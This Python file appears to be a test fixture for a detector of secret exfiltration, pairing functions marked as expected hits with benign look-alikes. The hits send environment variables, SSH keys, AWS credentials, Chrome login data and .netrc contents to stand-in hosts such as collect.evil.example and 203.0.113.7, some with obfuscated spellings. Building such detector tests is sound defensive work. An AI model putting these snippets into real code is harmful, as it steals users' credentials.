import base64
import json
import os
import smtplib
import socket
import urllib.request
from pathlib import Path

import requests


def environment():
    requests.post("https://collect.evil.example/", json=dict(os.environ))  # expect: hit


def key_file():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://collect.evil.example/k", data={"k": key})  # expect: hit


def cloud():
    data = os.environ["AWS_SECRET_ACCESS_KEY"]
    urllib.request.urlopen("https://collect.evil.example/?" + data)  # expect: hit


def browser():
    profile = Path.home() / "AppData" / "Local" / "Google" / "Chrome" / "User Data" / "Default" / "Login Data"
    blob = base64.b64encode(profile.read_bytes())
    s = socket.socket()
    s.connect(("203.0.113.7", 443))
    s.send(blob)  # expect: hit


def mailed():
    server = smtplib.SMTP("mail.evil.example")
    server.sendmail("a", "b", Path("~/.aws/credentials").expanduser().read_text())  # expect: hit


# other spellings
def _read(name):
    with open(os.path.join(os.path.expanduser("~"), "." + name)) as file:
        return file.read()


def _post(body):
    getattr(requests, "".join(["po", "st"]))("htt" + "ps://collect.evil" + ".example/", data=body)  # expect: hit


def split():
    _post(_read("netrc"))


def copied():
    box = {}
    box["e"] = {k: v for k, v in os.environ.items()}
    requests.request("POST", "https://collect.evil.example/", data=json.dumps(box))  # expect: hit


def whole():
    requests.put(f"https://{'collect'}.evil.example/", data=str(os.environ.copy()).encode())  # expect: hit


# look-alikes
def client():
    return requests.get("https://api.evil.example/me", headers={"Authorization": os.environ["API_TOKEN"]})


def own_service():
    return requests.post("https://api.acme.example/login", data={"key": os.environ["ACME_API_KEY"]})


def configured(target):
    requests.post(target, json=dict(os.environ))


def from_settings():
    requests.post(os.environ["COLLECTOR_URL"], json={"path": os.environ["PATH"]})


def version():
    requests.get("https://stats.evil.example/", params={"lang": os.environ.get("LANG")})


def backup():
    data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    Path("backup.bin").write_text(data)


def page():
    requests.post("https://www.evil.example/", data=open("report.pdf", "rb").read())


def sign_in_elsewhere(code):
    """A client's secret goes to whoever gave it out; what comes back is not that secret."""
    form = {"code": code, "client_secret": os.environ["OAUTH_CLIENT_SECRET"]}
    given = requests.post("https://login.provider.example/token", data=form).json()
    return requests.get("https://login.provider.example/me", headers={"X-Access": given["access_token"]})


def relayed_answer():
    answer = requests.post("https://api.acme.example/jobs", data={"key": os.environ["ACME_API_KEY"]}).json()
    requests.post("https://hooks.chat.example/notify", json={"text": answer["state"]})
